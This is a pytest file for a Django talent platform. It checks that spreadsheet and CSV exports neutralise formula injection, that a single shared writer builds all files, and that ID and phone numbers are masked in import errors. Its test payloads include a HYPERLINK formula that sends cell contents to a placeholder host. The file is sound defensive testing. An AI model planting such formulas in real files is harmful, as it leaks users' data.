"""What leaves the platform as a file or a stored message: no live formula in any spreadsheet (OWASP CSV
injection), one writer for all of them, and import errors with the numbers masked."""

import ast
import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from django.apps import apps as django_apps
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from rencai.conftest import make_resident_id
from rencai.core.excel import Sheet, csv_bytes, safe_cell, xlsx_bytes
from rencai.core.masking import mask_id_number
from rencai.policies.matching import match_run
from rencai.talents.models import ImportBatch, Talent

NAMES = ['=HYPERLINK("http://x"&C2,"点我")', "+1", "-1+1", "@SUM(A1)"]  # a name is stripped: no tab or CR
PAYLOADS = [*NAMES, "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parents[2]  # the rencai package


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_no_formula(content: bytes) -> list[str]:
    texts = []
    for cell in _cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts.append(cell.value)
    return texts


def test_the_writer_neutralises_text_and_keeps_numbers():
    assert [safe_cell(v) for v in PAYLOADS] == ["'" + v for v in PAYLOADS]
    assert safe_cell(-5) == -5 and safe_cell(3.5) == 3.5 and safe_cell("张三") == "张三" and safe_cell(None) is None
    content = xlsx_bytes([Sheet("表", ["姓名", "金额"], [[p, -5] for p in PAYLOADS])])
    texts = _assert_no_formula(content)
    # A CR comes back as a line feed, or as itself where the XML is written with lxml (python-docx installs it,
    # and openpyxl then writes a CR as &#13;): either way the cell is the neutralised text.
    assert [t.replace("\r", "\n") for t in texts[2:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    numbers = [c.value for c in _cells(content) if c.column == 2 and c.row > 1]
    assert numbers == [-5] * len(PAYLOADS)
    rows = list(csv.reader(io.StringIO(csv_bytes(["姓名"], [[p] for p in PAYLOADS]).decode("utf-8-sig"),
                                       newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_the_styled_writer_too():
    content = xlsx_bytes([Sheet("表", ["=A"], [["=B"]], column_width=18)])
    assert _assert_no_formula(content) == ["'=A", "'=B"]


@pytest.mark.django_db
def test_every_export_keeps_hostile_names_as_text(client, city_staff, make_talent):
    for name in NAMES:
        make_talent(name=name)
    match_run(as_of=dt.date(2024, 6, 1))
    client.force_login(city_staff)
    downloads = {"/talents/export.xlsx": len(NAMES), "/talents/import/template.xlsx": 0,
                 "/policies/matches/sy-rent-subsidy/export.xlsx": len(NAMES),
                 "/policies/matches/sy-living-subsidy-graduate/export.xlsx": len(NAMES)}
    for url, expected in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, url
        texts = _assert_no_formula(response.getvalue())
        assert sum("'" + p in texts for p in NAMES) == expected, url  # the text is all there, inert


def _spreadsheet_writers(tree: ast.AST) -> list[str]:
    """Calls and imports that build a spreadsheet or CSV outside the shared writer."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module and node.module.split(".")[0] in ("openpyxl", "xlsxwriter"):
            names = {a.name for a in node.names}
            if names & {"Workbook"} or node.module.startswith(("openpyxl.writer", "openpyxl.styles", "xlsxwriter")):
                found.append(f"from {node.module} import {', '.join(sorted(names))}")
        if isinstance(node, ast.Import):
            found += [a.name for a in node.names if a.name in ("csv", "xlsxwriter", "pandas")]
        if isinstance(node, ast.Attribute) and node.attr in ("write_csv", "write_excel", "to_csv", "to_excel",
                                                              "writer", "DictWriter", "Workbook"):
            found.append(node.attr)
    return found


SPREADSHEET_MODULES = {"core/excel.py", "core/uploads.py", "core/bulk.py"}


def test_no_module_but_the_shared_writer_builds_spreadsheets():
    offenders = {}
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        # core.excel writes every spreadsheet and CSV for people; core.uploads reads uploaded ones; core.bulk
        # feeds PostgreSQL's COPY (the database's wire format, never a file for people).
        if relative in SPREADSHEET_MODULES or "/tests/" in f"/{relative}" or relative == "conftest.py":
            continue
        found = _spreadsheet_writers(ast.parse(path.read_text(encoding="utf-8")))
        if found:
            offenders[relative] = found
    assert offenders == {}
    # and the check sees what it is looking for
    assert _spreadsheet_writers(ast.parse("from openpyxl import Workbook\nimport csv\ndf.write_csv('x')")) == [
        "from openpyxl import Workbook", "csv", "write_csv"]


def _upload(rows) -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "证件号码", "所在区县", "手机号码", "专业"])
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return SimpleUploadedFile("人才.xlsx", buffer.getvalue())


@pytest.mark.django_db
def test_import_errors_show_numbers_masked(client, heping_staff):
    bad_check = make_resident_id()
    bad_check = bad_check[:-1] + ("0" if bad_check[-1] != "0" else "1")
    clear = [bad_check, "1391234567", "21010219850615", "13912345678"]
    rows = [["王一", bad_check, "和平区", "", "本科"],  # a mistyped 身份证
            ["王二", make_resident_id(), "和平区", "1391234567", "本科"],  # a phone one digit short
            ["王三", "21010219850615", "和平区", "", "本科"],  # a 身份证 cut short
            ["王四", make_resident_id(), "13912345678", "", ""]]  # a phone in the district's column
    client.force_login(heping_staff)
    html = client.post("/talents/import/", {"file": _upload(rows)}).content.decode()
    api = client.post("/api/talents/import", {"file": _upload(rows)}).content.decode()
    stored = json.dumps([b.errors for b in ImportBatch.objects.all()], ensure_ascii=False)
    assert sorted({e["row"] for e in json.loads(api)["errors"]}) == [2, 3, 4, 5]
    for text in (html, api, stored):
        for number in clear:
            assert number not in text
    assert mask_id_number(bad_check) in stored and "139***4567" in stored and "139****5678" in stored
    assert Talent.objects.count() == 0


@pytest.mark.django_db
def test_the_migration_remasks_old_rows_and_old_import_errors(make_talent, heping_staff):
    from importlib import import_module

    migration = import_module("rencai.talents.migrations.0004_remask_numbers")
    talent = make_talent(phone="13912345678")
    number = talent.id_number_masked[:4]
    Talent.objects.filter(pk=talent.pk).update(id_number_masked=number + "**********1234", phone_masked="x")
    broken = make_talent()  # a row this key cannot decrypt: the new mask is made from the old one
    Talent.objects.filter(pk=broken.pk).update(id_number_cipher="v1:AAAA", id_number_masked="2101**********5678")
    batch = ImportBatch.objects.create(file_name="a.xlsx", actor=heping_staff, status="rejected", total_rows=1,
                                       imported_rows=0, errors=[{"row": 2, "field": "证件号码",
                                                                 "message": "居民身份证号码“210102198506151239”无效"}])
    for _ in range(2):  # and again: nothing changes the second time
        migration.remask_talents(django_apps, None)
        migration.mask_import_errors(django_apps, None)
        talent.refresh_from_db()
        assert talent.id_number_masked == mask_id_number(talent_number(talent)) and talent.phone_masked == "139****5678"
        assert Talent.objects.get(pk=broken.pk).id_number_masked == "2101*************8"
        batch.refresh_from_db()
        assert batch.errors[0]["message"] == "居民身份证号码“2101*************9”无效"


def talent_number(talent) -> str:
    from rencai.core import crypto

    return crypto.decrypt(talent.id_number_cipher)
